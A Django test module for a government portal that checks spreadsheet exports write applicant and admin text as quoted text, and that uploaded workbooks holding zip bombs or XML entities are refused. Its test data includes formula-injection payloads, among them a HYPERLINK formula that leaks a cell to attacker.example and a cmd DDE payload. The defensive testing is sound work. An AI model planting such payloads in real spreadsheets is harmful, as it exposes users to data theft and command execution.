"""Spreadsheets: every cell the portal writes from someone's input reads back as text, never a formula
(formula injection, OWASP); every workbook it reads is refused cleanly when it is a zip bomb or carries
XML entities. Before, an applicant named ``=HYPERLINK(...)`` was a live link in the officers' tracking book."""

from __future__ import annotations

import html
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from procedures.models import ProcedureVersion
from signatures.models import CertificateRequest
from tests import hostile
from tests.dossiers.factories import received

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&C5,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[2]


def login(user) -> Client:
    client = Client()
    client.cookies["django_language"] = "en"
    client.force_login(user)
    return client


def text_cells(content: bytes) -> dict[str, tuple[str, bool]]:
    """Every string cell of the workbook: value -> (its type, whether Excel shows it with a quote prefix)."""
    book = load_workbook(io.BytesIO(content))
    return {cell.value: (cell.data_type, cell.quotePrefix) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)}


def assert_all_text(content: bytes, values: list[str]) -> None:
    cells = text_cells(content)
    for value in values:
        assert value in cells, value
        data_type, quoted = cells[value]
        assert data_type == "s", f"{value!r} was written as {data_type!r}, not text"
        assert quoted, f"{value!r} has no quote prefix: editing the cell in Excel would make it a formula"
    assert not [v for v, (t, _q) in cells.items() if t == "f"], "a cell was written as a formula"


def test_the_tracking_book_writes_applicant_names_as_text(world):
    names = [received(world, name=name).applicant_name for name in HOSTILE]  # as stored (whitespace trimmed)
    assert names[0] == HOSTILE[0]
    today = timezone.localdate()
    response = login(world.officer).get(reverse("dossiers:book"), {
        "centre": world.centre.pk, "start": f"{today:%Y-%m-%d}", "end": f"{today:%Y-%m-%d}", "format": "xlsx"})
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    assert_all_text(b"".join(response.streaming_content), names)


def test_the_catalogue_export_writes_admin_text_as_text_and_imports_back_unchanged(world):
    version = world.version
    ProcedureVersion.objects.filter(pk=version.pk).update(name=HOSTILE[0], conditions=HOSTILE[2],
                                                          legal_basis=HOSTILE[3])
    version.components.filter(position=1).update(name=HOSTILE[1])
    response = login(world.admin).get(reverse("procedures:manage_export"))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_all_text(content, HOSTILE[:4])

    from procedures.excel.reader import read_workbook

    parsed = read_workbook(io.BytesIO(content))
    row = parsed.sheets["Thủ tục"].rows[0].values
    assert (row["name"], row["conditions"], row["legal_basis"]) == (HOSTILE[0], HOSTILE[2], HOSTILE[3])


def test_the_catalogue_template_writes_reference_names_as_text(world):
    world.commune_agency.name = "=1+1 Ủy ban"
    world.commune_agency.save()
    response = login(world.admin).get(reverse("procedures:manage_template"))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_all_text(content, ["=1+1 Ủy ban"])


def test_only_the_spreadsheet_helper_writes_or_opens_workbooks():
    """One helper for the concern (portal.spreadsheet): a new export cannot forget it unnoticed."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or relative == "portal/spreadsheet.py":
            continue
        source = path.read_text()
        if re.search(r"\bWorkbook\(\)|\bload_workbook\(|\.append\(\[|\.cell\([^)]*value=", source):
            offenders.append(relative)
    assert not offenders, offenders


# ---- Reading uploaded workbooks -------------------------------------------------------------------------

def _upload(content: bytes, name: str = "danh-sach.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=XLSX)


def _template(world, url_name: str) -> bytes:
    response = login(world.admin).get(reverse(url_name))
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_zip_bomb_is_refused_by_both_imports_and_nothing_is_saved(world):
    bomb = hostile.xlsx_zip_bomb()
    admin = login(world.admin)
    page = html.unescape(admin.post(reverse("procedures:manage_import"), {"file": _upload(bomb)}).content.decode())
    assert "The file unpacks to far more data than a catalogue holds." in page
    response = admin.post(reverse("signatures:request_import"), {"file": _upload(bomb)})
    assert response.status_code == 400
    assert "This file is not an Excel workbook (.xlsx)." in html.unescape(response.content.decode())
    assert not CertificateRequest.objects.exists()
    assert ProcedureVersion.objects.count() == 1


def test_xml_entities_in_a_workbook_are_refused_by_both_imports(world):
    admin = login(world.admin)
    catalogue = hostile.xlsx_with_entities(_template(world, "procedures:manage_template"))
    page = html.unescape(admin.post(reverse("procedures:manage_import"), {"file": _upload(catalogue)}).content.decode())
    assert "The file is damaged: Excel data could not be read from it." in page or \
        "The file is not an Excel workbook (.xlsx)." in page
    requests = hostile.xlsx_with_entities(_template(world, "signatures:import_template"))
    response = admin.post(reverse("signatures:request_import"), {"file": _upload(requests)})
    assert response.status_code == 400
    assert "This file is not an Excel workbook (.xlsx)." in html.unescape(response.content.decode())
    assert not CertificateRequest.objects.exists()
